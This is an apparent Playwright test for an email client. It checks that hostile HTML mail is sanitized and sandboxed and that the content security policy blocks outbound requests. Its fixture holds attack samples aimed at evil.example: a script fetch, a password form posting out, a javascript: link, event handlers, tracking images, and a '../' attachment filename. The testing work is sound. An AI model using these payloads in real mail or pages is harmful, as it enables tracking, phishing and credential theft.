/** Somebody's HTML in the inbox: seen, and shut in. */
import { createTransport } from 'nodemailer'
import { practicePassword, practiceUser } from '../../shared/contract/practice.ts'
import { expectAccessible } from '../fixtures/accessible.ts'
import { expect, test } from '../fixtures/test.ts'

const pixel = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'
/** Everything that wants out, or in. */
const hostile = `
  <html><head><title>x</title><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
  <base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css"><style>@import url(https://evil.example/b.css);</style>
  <script>top.document.title = 'broken in'; fetch('https://evil.example/script')</script></head>
  <body background="https://evil.example/paper.png" onload="top.document.title = 'broken in'">
  <p style="color: rgb(0, 0, 255)">Sua <b>nota</b> chegou.</p>
  <img id="own" alt="dentro" src="${pixel}"><img alt="fora" src="https://evil.example/pixel.gif" onerror="top.document.title = 'broken in'">
  <div style="background: url('https://evil.example/paper.png')">papel</div>
  <a href="https://evil.example/" target="_top">clique</a> <a href="javascript:top.document.title='broken in'">aqui</a>
  <form action="https://evil.example/form"><input name="senha"><button>Enviar</button></form>
  <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">
  <svg><script>top.document.title = 'broken in'</script><image href="https://evil.example/i.png" /></svg>
  </body></html>`

test('HTML is shown and can do nothing; attachments are only listed', async ({ app, page, watch }) => {
  // Said of Playwright's own scripts; that none of the message's is left is looked at below.
  watch.expect(/^error: Blocked script execution in 'about:srcdoc'/)
  // Of a handler the policy speaks as soon as it is read, before it is taken out.
  watch.expect(/^error: (?:Executing inline event handler violates|policy: script-src-attr inline)/)
  await app.open()
  await app.systems.tryNow.click()
  await expect(app.test.panel).toBeVisible()
  await app.goTo('Prática')
  const title = await page.title()
  const port = Number(/127\.0\.0\.1:(\d+)/.exec((await app.practice.server.textContent()) ?? '')?.[1])
  const transport = createTransport({ host: '127.0.0.1', port, ignoreTLS: true, auth: { user: practiceUser, pass: practicePassword } })
  const message = { from: 'a@example.com', to: 'b@example.com', subject: 'Nota', text: 'Sua nota chegou.', html: hostile }
  await transport.sendMail({ ...message, attachments: [{ filename: '../nota.pdf', content: 'x'.repeat(2048), contentType: 'application/pdf' }] })

  await expect(app.practice.message.getByRole('heading').first()).toHaveText('Nota')
  await expect(app.practice.attachments).toHaveText(['nota.pdfapplication/pdf, 2 KB'])
  await app.practice.view('HTML').click()
  await expect(page.getByTitle('A mensagem em HTML')).toHaveAttribute('sandbox', '')
  const frame = page.frameLocator('iframe')
  await expect(frame.locator('b')).toHaveText('nota')
  await expect(frame.locator('p')).toHaveCSS('color', 'rgb(0, 0, 255)')
  expect(await frame.locator('img[alt="dentro"]').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1)
  await expect(frame.locator('script, form, iframe, object, embed, svg, style, link, base, [href], [onerror], [background]')).toHaveCount(0)
  await expect(app.practice.message).toContainText('Imagens que viriam de fora ficaram de fora.')

  await expectAccessible(page, 'a message in HTML')

  // Links and buttons are there to be read.
  for (const name of ['clique', 'aqui']) await frame.getByText(name, { exact: true }).click()
  await frame.getByRole('button', { name: 'Enviar' }).click()
  await expect(frame.locator('b')).toHaveText('nota')
  expect([page.context().pages().length, page.frames().length, await page.title()]).toEqual([1, 2, title])
  expect(watch.complaints()).toEqual([])

  await test.step('the frame and the policy hold alone, without the cleaning', async () => {
    watch.expect(/./)
    const ends: (string | undefined)[] = []
    page.on('requestfinished', (request) => ends.push(request.url()))
    page.on('requestfailed', (request) => ends.push(request.failure()?.errorText))
    const loaded = page.locator('iframe').evaluate((element: HTMLIFrameElement, html) => {
      const done = new Promise((resolve) => element.addEventListener('load', resolve, { once: true }))
      element.srcdoc = html
      return done
    }, hostile)
    await loaded
    await expect(frame.locator('b')).toHaveText('nota')
    expect([await page.title(), page.context().pages().length]).toEqual([title, 1])
    // Whatever it wanted was refused before it left.
    await expect.poll(() => ends.length).toBeGreaterThanOrEqual(4)
    expect(new Set(ends)).toEqual(new Set(['csp']))
    expect(await page.locator('iframe').evaluate((element: HTMLIFrameElement) => element.contentDocument)).toBeNull()
  })
})
